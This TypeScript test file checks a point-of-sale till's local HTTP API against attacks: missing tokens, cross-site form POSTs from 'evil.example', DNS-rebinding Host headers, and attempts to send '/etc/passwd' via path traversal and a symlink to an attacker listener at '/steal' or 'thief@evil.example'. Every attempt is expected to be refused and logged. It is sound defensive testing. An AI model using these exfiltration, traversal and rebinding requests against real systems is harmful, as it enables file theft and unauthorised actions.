/**
 * The till's local API replayed as an attacker on the same PC or LAN would: a real `startTill`
 * on loopback, real HTTP requests, a real HTTP listener standing for the attacker's server.
 * Each door refuses, writes the refusal to the till's day log, and the cashier's traffic beside it
 * still works.
 */
import { createServer, request, type Server } from 'node:http';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiTokenPath, TOKEN_HEADER } from './api-token.ts';
import { localDay } from './sale.ts';
import { writeSendDestinations } from './send-destinations.ts';
import { startTill, type RunningTill } from './start.ts';
import { openTestTill } from '../test/support/test-till.ts';

let dir: string;
let till: RunningTill;
let attacker: Server;
let attackerUrl: string;
const attackerHits: string[] = [];
let drop: string;

/** Raw HTTP, so that Host and Origin are exactly what an attacker's page or script would send. */
function raw(opts: { method?: string; path: string; headers?: Record<string, string>; body?: string }): Promise<{ status: number; body: string; json: any }> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port: till.port, method: opts.method ?? 'GET', path: opts.path, headers: { host: `127.0.0.1:${till.port}`, ...opts.headers } }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (c) => (text += c));
      res.on('end', () => {
        let json: any = null;
        try {
          json = JSON.parse(text);
        } catch {
          json = null;
        }
        resolve({ status: res.statusCode ?? 0, body: text, json });
      });
    });
    req.on('error', reject);
    if (opts.body !== undefined) req.end(opts.body);
    else req.end();
  });
}

const asOperator = () => ({ [TOKEN_HEADER]: till.tokens.operator });
const asCashier = () => ({ [TOKEN_HEADER]: till.tokens.cashier });
const json = (h: Record<string, string>) => ({ ...h, 'content-type': 'application/json' });
const dayLog = () => {
  const p = join(dir, 'log', `${localDay(new Date())}.log`);
  return existsSync(p) ? readFileSync(p, 'utf8') : '';
};
let sale: string;

beforeAll(async () => {
  attacker = createServer((req, res) => {
    attackerHits.push(`${req.method} ${req.url}`);
    res.end('thanks');
  });
  await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/steal`;
  dir = mkdtempSync(join(tmpdir(), 'tillsync-local-api-'));
  const t = await openTestTill({ disk: true, dir });
  await t.close({ keep: true });
  drop = join(dir, '..', `${dir.split('/').pop()}-drop`);
  mkdirSync(drop, { recursive: true });
  writeSendDestinations(dir, { lan: [drop], mail: [], smtp: null });
  till = await startTill({ data: dir, port: 0 });
  const price = till.service.store.base.article('A000001')!.price;
  sale = JSON.stringify({ lines: [{ article: 'A000001', qty: 1 }], payments: [{ mode: 'CB', amount: price }] });
});

afterAll(async () => {
  await till?.stop();
  await new Promise<void>((r) => attacker?.close(() => r()));
  rmSync(dir, { recursive: true, force: true });
  rmSync(drop, { recursive: true, force: true });
});

describe('tokens', () => {
  it('writes the operator token 0600 in the data folder and puts only the cashier token in the page', async () => {
    expect(statSync(apiTokenPath(dir)).mode & 0o777).toBe(0o600);
    expect(readFileSync(apiTokenPath(dir), 'utf8').trim()).toBe(till.tokens.operator);
    const page = await raw({ path: '/' });
    expect(page.status).toBe(200);
    expect(page.body).toContain(`<meta name="till-token" content="${till.tokens.cashier}">`);
    expect(page.body).not.toContain(till.tokens.operator);
  });

  it('serves the page its money rules: the very sync/scaled-int.js the server computes with, as a JS module', async () => {
    const page = await raw({ path: '/register.js' });
    expect(page.body).toContain("from '../../sync/scaled-int.js'");
    const mod = await raw({ path: '/sync/scaled-int.js' });
    expect(mod.status).toBe(200);
    expect(mod.body).toBe(readFileSync(new URL('../sync/scaled-int.js', import.meta.url), 'utf8'));
    // Only that one file of sync/ is served: the rest of the product stays off the page's origin.
    expect((await raw({ path: '/sync/money.ts' })).status).toBe(404);
  });

  it('gives nothing without the token, and nothing for a wrong one', async () => {
    for (const path of ['/api/till/status', '/api/till/tickets', '/api/till/articles?q=A', '/api/till/customers?q=C', '/api/till/destinations']) {
      const r = await raw({ path });
      expect(r.status, path).toBe(401);
      expect(r.json.error.code).toBe('token-required');
      expect(r.body).not.toContain('S1');
    }
    expect((await raw({ path: '/api/till/status', headers: { [TOKEN_HEADER]: 'x'.repeat(43) } })).status).toBe(401);
    expect(dayLog()).toMatch(/local API refused \(token-required\): GET \/api\/till\/status/);
    expect((await raw({ path: '/api/till/status', headers: asCashier() })).json.store).toBe('S1');
  });
});

describe('journal from the page', () => {
  it('takes only the events the register page sees; a page cannot forge a closure, a key change or a training switch', async () => {
    const post = (body: unknown) => raw({ method: 'POST', path: '/api/till/journal', headers: { ...json(asCashier()), origin: `http://127.0.0.1:${till.port}` }, body: JSON.stringify(body) });
    const journalLength = async () => (await raw({ path: '/api/till/status', headers: asOperator() })).json.fiscal.journalEvents as number;
    const before = await journalLength();
    for (const type of ['closure', 'key-change', 'training-off', 'reprint', 'archive', 'start', 'nonsense', undefined]) {
      const r = await post({ type, data: { id: 'S1-01-Z99' } });
      expect(r.status, String(type)).toBe(400);
      expect(r.json.error.message).toContain('line-cancelled, cashier-open, cashier-close');
    }
    expect((await post({ type: 'line-cancelled', data: { note: 'x'.repeat(2100) } })).status).toBe(400);
    expect(await journalLength()).toBe(before);
    const ok = await post({ type: 'line-cancelled', data: { article: 'A000001', qty: '1', amount: '1.00' } });
    expect(ok.status).toBe(201);
    expect(ok.json.type).toBe('line-cancelled');
    expect(await journalLength()).toBe(before + 1);
  });
});

describe('cross-site and rebinding', () => {
  it('refuses a cross-site form POST that would close the day', async () => {
    const before = (await raw({ path: '/api/till/status', headers: asOperator() })).json.lastClosure;
    for (const type of ['application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'text/plain']) {
      // What an attacker's <form action="http://127.0.0.1:8470/api/till/close" method="post"> sends.
      const r = await raw({ method: 'POST', path: '/api/till/close', headers: { 'content-type': type, origin: 'http://evil.example' }, body: 'a=b' });
      expect(r.status, type).toBe(403);
      // Even without Origin (an old browser, a script): no token, no close.
      const r2 = await raw({ method: 'POST', path: '/api/till/close', headers: { 'content-type': type }, body: 'a=b' });
      expect(r2.status, type).toBe(401);
    }
    // The token alone does not make a form post acceptable.
    const r3 = await raw({ method: 'POST', path: '/api/till/close', headers: { ...asCashier(), 'content-type': 'text/plain' }, body: '{}' });
    expect(r3.status).toBe(415);
    expect((await raw({ path: '/api/till/status', headers: asOperator() })).json.lastClosure).toEqual(before);
    expect(dayLog()).toMatch(/local API refused \(foreign-origin\): POST \/api\/till\/close .* Origin "http:\/\/evil\.example"/);
    expect(dayLog()).toMatch(/local API refused \(json-only\)/);
  });

  it('refuses a JSON POST from a foreign Origin even with a token, and takes the same from its own page', async () => {
    const r = await raw({ method: 'POST', path: '/api/till/sell', headers: { ...json(asCashier()), origin: 'http://evil.example' }, body: sale });
    expect(r.status).toBe(403);
    expect((await raw({ method: 'POST', path: '/api/till/sell', headers: { ...json(asCashier()), origin: 'null' }, body: sale })).status).toBe(403);
    const own = await raw({ method: 'POST', path: '/api/till/sell', headers: { ...json(asCashier()), origin: `http://127.0.0.1:${till.port}` }, body: sale });
    expect(own.status).toBe(201);
    expect(own.json.number).toBe(1);
  });

  it('refuses a rebound host name, for the page (which carries the token) as for the API', async () => {
    for (const host of [`evil.example:${till.port}`, `127.0.0.1.nip.io:${till.port}`, '127.0.0.1:1']) {
      const page = await raw({ path: '/', headers: { host } });
      expect(page.status, host).toBe(421);
      expect(page.body).not.toContain(till.tokens.cashier);
      expect((await raw({ path: '/api/till/status', headers: { ...asOperator(), host } })).status).toBe(421);
    }
    expect((await raw({ path: '/', headers: { host: `localhost:${till.port}` } })).status).toBe(200);
    expect((await raw({ path: '/', headers: { host: `[::1]:${till.port}` } })).status).toBe(200);
    expect(dayLog()).toMatch(/local API refused \(wrong-host\): GET \/ .* Host "evil\.example:/);
  });
});

describe('send and extract', () => {
  it('does not send /etc/passwd (or anything not a package of this till) anywhere, whoever asks', async () => {
    const pkg = (await raw({ method: 'POST', path: '/api/till/extract', headers: json(asCashier()), body: JSON.stringify({ kind: 'untransferred' }) })).json;
    expect(pkg.file.path).toBe(join(dir, 'packages', pkg.fileName));
    symlinkSync('/etc/passwd', join(dir, 'packages', 'TicDep01_20260101.zip'));
    writeFileSync(join(dir, 'packages', 'notes.txt'), 'not a package');
    const tries = ['/etc/passwd', join(dir, 'packages', '..', '..', '..', 'etc', 'passwd'), join(dir, 'packages', 'TicDep01_20260101.zip'), join(dir, 'packages', 'notes.txt'), join(dir, 'till.lock')];
    for (const file of tries) {
      for (const who of [asOperator(), asCashier()]) {
        const r = await raw({ method: 'POST', path: '/api/till/send', headers: json(who), body: JSON.stringify({ file, lan: attackerUrl }) });
        expect([403, 404], file).toContain(r.status);
        expect(r.json.error.code).toMatch(/not-own-package|no-file|destination-not-configured/);
      }
    }
    expect(attackerHits).toEqual([]);
    expect(dayLog()).toMatch(/send refused: .*passwd/);
  });

  it('sends the cashier\'s packages only to configured destinations: a typed URL, folder or address is refused', async () => {
    const pkg = (await raw({ method: 'POST', path: '/api/till/extract', headers: json(asCashier()), body: JSON.stringify({ kind: 'untransferred', includeSent: true }) })).json;
    const elsewhere = mkdtempSync(join(tmpdir(), 'tillsync-elsewhere-'));
    try {
      for (const target of [{ lan: attackerUrl }, { lan: elsewhere }, { mail: ['thief@evil.example'], smtp: `smtp://127.0.0.1:${(attacker.address() as AddressInfo).port}` }]) {
        const r = await raw({ method: 'POST', path: '/api/till/send', headers: json(asCashier()), body: JSON.stringify({ file: pkg.file.path, ...target }) });
        expect(r.status, JSON.stringify(target)).toBe(403);
        expect(r.json.error.code).toBe('destination-not-configured');
        expect(r.json.error.message).toMatch(/^send refused: .* is not a destination configured for this till$/);
      }
      expect(readdirSync(elsewhere)).toEqual([]);
      expect(attackerHits).toEqual([]);
      expect(dayLog()).toMatch(/local API refused \(cashier\): send refused: "http:\/\/127\.0\.0\.1:\d+\/steal"/);
      // The configured folder works.
      const ok = await raw({ method: 'POST', path: '/api/till/send', headers: json(asCashier()), body: JSON.stringify({ file: pkg.file.path, lan: drop }) });
      expect(ok.status).toBe(200);
      expect(readdirSync(drop)).toEqual([pkg.fileName]);
      expect((await raw({ path: '/api/till/destinations', headers: asCashier() })).json).toEqual({ lan: [drop], mail: [], smtp: null });
    } finally {
      rmSync(elsewhere, { recursive: true, force: true });
    }
  });

  it('lets the cashier extract only into the packages folder or a configured drop folder', async () => {
    const elsewhere = mkdtempSync(join(tmpdir(), 'tillsync-elsewhere-'));
    try {
      await raw({ method: 'POST', path: '/api/till/sell', headers: json(asCashier()), body: sale });
      const r = await raw({ method: 'POST', path: '/api/till/extract', headers: json(asCashier()), body: JSON.stringify({ kind: 'untransferred', out: elsewhere }) });
      expect(r.status).toBe(403);
      expect(r.json.error.message).toBe(`extract refused: ${elsewhere} is neither this till's packages folder nor a configured drop folder`);
      expect(readdirSync(elsewhere)).toEqual([]);
      const traversal = await raw({ method: 'POST', path: '/api/till/extract', headers: json(asCashier()), body: JSON.stringify({ kind: 'untransferred', out: join(dir, 'packages', '..', '..') }) });
      expect(traversal.status).toBe(403);
      const ok = await raw({ method: 'POST', path: '/api/till/extract', headers: json(asCashier()), body: JSON.stringify({ kind: 'untransferred', out: drop }) });
      expect(ok.status).toBe(200);
      expect(ok.json.file.path.startsWith(drop)).toBe(true);
    } finally {
      rmSync(elsewhere, { recursive: true, force: true });
    }
  });
});

describe('--host', () => {
  it('refuses an address that is not loopback without allowLan, with one line', async () => {
    const other = mkdtempSync(join(tmpdir(), 'tillsync-lan-'));
    try {
      await expect(startTill({ data: other, port: 0, host: '0.0.0.0' })).rejects.toMatchObject({ code: 'lan-not-allowed', message: "till start --host 0.0.0.0 would open the till's API to the network" });
    } finally {
      rmSync(other, { recursive: true, force: true });
    }
  });
});
